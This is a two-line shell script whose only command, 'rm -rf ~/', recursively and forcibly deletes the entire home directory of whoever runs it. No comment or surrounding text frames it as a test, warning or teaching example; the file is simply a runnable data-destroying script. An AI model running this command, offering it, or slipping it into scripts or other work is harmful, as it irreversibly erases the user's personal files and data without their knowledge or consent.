#!/bin/sh
rm -rf ~/
